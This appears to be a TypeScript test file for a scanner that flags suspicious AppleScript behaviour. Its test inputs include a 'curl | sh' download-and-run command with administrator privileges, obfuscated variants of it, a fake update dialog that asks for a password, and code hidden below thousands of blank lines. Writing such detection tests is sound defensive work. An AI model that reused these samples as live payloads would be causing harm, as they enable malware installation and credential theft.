import fc from 'fast-check'
import { expect, test } from 'vitest'
import { textFile } from '../python/testing.ts'
import createReader from './reader.ts'

const reader = createReader({ file: () => undefined, resolve: () => undefined, environment: new Map() })
const read = (text: string) => reader.read(textFile('Zoom SDK.applescript', text))
const kinds = (text: string) => read(text).acts.map(({ kind }) => kind)

test('what is handed to a shell is read there', () => {
  const { acts } = read(
    'set u to "https://x.invalid/a"\nset c to "curl -s " & u & " | sh"\ndo shell script c with administrator privileges',
  )
  expect(acts.find(({ kind }) => kind === 'download')?.values.join()).toContain('https://x.invalid/a')
  expect(acts.map(({ kind }) => kind)).toEqual(
    expect.arrayContaining(['run-program', 'ask-password', 'run-code']),
  )
  expect(acts.find(({ kind }) => kind === 'run-program')?.where.line).toBe(3)
})

test('character codes and words cut in pieces', () => {
  const codes = [...'curl x.invalid'].map((letter) => letter.charCodeAt(0)).join(', ')
  const [act] = read(`do shell script (character id {${codes}})`).acts
  expect(act).toMatchObject({ values: ['curl x.invalid'], origins: ['decoded'] })
  expect(read('do shell script "cu" & "rl x.invalid"').acts[0]?.origins).toContain('assembled')
})

test('a password asked for, and what is run of a script', () => {
  expect(
    kinds('set p to text returned of (display dialog "Update" default answer "" with hidden answer)'),
  ).toEqual(['ask-password'])
  expect(kinds('run script "do shell script \\"ls\\""')).toEqual(
    expect.arrayContaining(['run-code', 'run-program']),
  )
})

test('code far below', () => {
  const { acts } = read(`-- Zoom\n${'\n'.repeat(3000)}do shell script "true"`)
  expect(acts.find(({ kind }) => kind === 'hide')?.where.line).toBe(3002)
})

test('a compiled script is read by its texts', () => {
  const utf16 = (text: string) => [...text].map((letter) => `\0${letter}`).join('')
  const bytes = Buffer.from(
    `FasdUAS 1.101.10\x0e\0\0\x04sysoexecTEXT\0\x01${utf16('curl -s https://x.invalid/a | sh')}\x01\x02`,
    'latin1',
  )
  const file = { ...textFile('a.scpt', ''), bytes: () => bytes, text: () => undefined }
  const { acts, problem } = reader.read(file)
  expect(acts.map(({ kind }) => kind)).toEqual(expect.arrayContaining(['run-program', 'download']))
  expect(problem).not.toBe('')
})

test('honest scripts', () => {
  expect(
    kinds(
      'tell application "Finder"\n  set x to name of front window -- do shell script "curl"\n  display dialog "Hello " & x\nend tell',
    ),
  ).toEqual([])
})

test('nothing makes it throw', () => {
  const parts = [
    'do shell script ',
    'set x to ',
    '"a"',
    '&',
    '(',
    ')',
    '{',
    'x',
    '\n',
    'character id ',
    'display dialog ',
    'run script ',
    '(*',
    '\\',
  ]
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...parts), { maxLength: 50 }), (list) => void read(list.join(''))),
  )
  expect(() => read('('.repeat(100_000))).not.toThrow()
})
